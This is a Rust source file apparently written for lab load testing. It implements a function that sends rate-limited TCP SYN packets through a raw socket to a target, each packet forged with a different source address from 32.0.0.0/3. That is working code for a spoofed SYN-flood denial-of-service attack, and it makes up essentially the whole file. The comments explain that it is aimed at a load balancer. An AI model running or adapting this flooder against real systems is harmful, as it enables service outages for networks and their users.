use anyhow::Result;
use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::thread::sleep;
use std::time::{Duration, Instant};

/// Sends the first segments of `connections` TCP connections to `target`, from the namespace of this thread and at `rate` a second, each
/// from an address of its own. Returns how long that took.
///
/// Nobody in a lab has a route to those addresses. A server drops such a segment before it remembers anything of it, which is what SYN
/// cookies would come to, so that the flood is a matter of the balancer's alone.
///
/// # Errors
/// When the kernel refuses to send in the name of others.
pub fn flood(target: SocketAddrV4, connections: u32, rate: u32) -> Result<Duration> {
    /// So many at once: sleeping is not exact.
    const BURST: u32 = 64;
    /// Packets come with their own IP headers (raw(7)).
    const IPPROTO_RAW: i32 = 255;
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
    socket.connect(&SocketAddr::from(target).into())?;
    let start = Instant::now();
    let mut packet = Vec::new();
    for number in 0..connections {
        if number % BURST == 0 {
            let due = Duration::from_secs(1) * number / rate;
            sleep(due.saturating_sub(start.elapsed()));
        }
        packet.clear();
        let builder = PacketBuilder::ipv4(source(number).octets(), target.ip().octets(), 64);
        builder.tcp(0x8000 | number as u16, target.port(), number, u16::MAX).syn().write(&mut packet, &[])?;
        socket.send(&packet)?;
    }
    Ok(start.elapsed())
}

/// An address of 32.0.0.0/3, another one for each number below 2²⁹: multiplying by an odd number only changes their order.
fn source(number: u32) -> Ipv4Addr {
    Ipv4Addr::from(1 << 29 | number.wrapping_mul(0x9e37_79b1) & ((1 << 29) - 1))
}
